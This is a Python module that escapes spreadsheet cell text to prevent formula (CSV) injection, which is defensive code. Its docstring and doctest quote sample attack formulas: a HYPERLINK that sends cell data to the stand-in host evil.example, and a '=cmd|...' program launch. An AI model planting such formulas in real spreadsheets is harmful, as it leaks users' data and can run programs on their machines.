"""Text written into spreadsheet cells: never read back as a formula.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
spreadsheet programs skip before them) is run as a formula when the file is opened: a survey
answer ``=HYPERLINK("http://evil.example?"&A1, "click")`` would leak the sheet, ``=cmd|...``
would run a program. OWASP's "CSV Injection" page gives the rule applied here: such text is
written with a leading apostrophe, which makes Excel and LibreOffice show it as plain text.

It lives in ``report`` (a stage may not import ``io``, tests/test_architecture.py) in a file of
its own, so whoever rewrites ``report/xlsx.py`` keeps calling it on every text cell.
"""

from __future__ import annotations

from typing import overload

#: First characters that make a spreadsheet program treat a cell as a formula (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@overload
def xlsx_safe(text: str) -> str: ...
@overload
def xlsx_safe(text: object) -> object: ...
def xlsx_safe(text: object) -> object:
    r"""Return ``text`` so that a spreadsheet shows it as text, never runs it; other values unchanged.

    Examples
    --------
    >>> xlsx_safe('=HYPERLINK("http://evil.example","x")')
    '\'=HYPERLINK("http://evil.example","x")'
    >>> xlsx_safe("GPU-hours"), xlsx_safe(-3.5)
    ('GPU-hours', -3.5)
    """
    if isinstance(text, str) and text.startswith(FORMULA_STARTS):
        return "'" + text
    return text
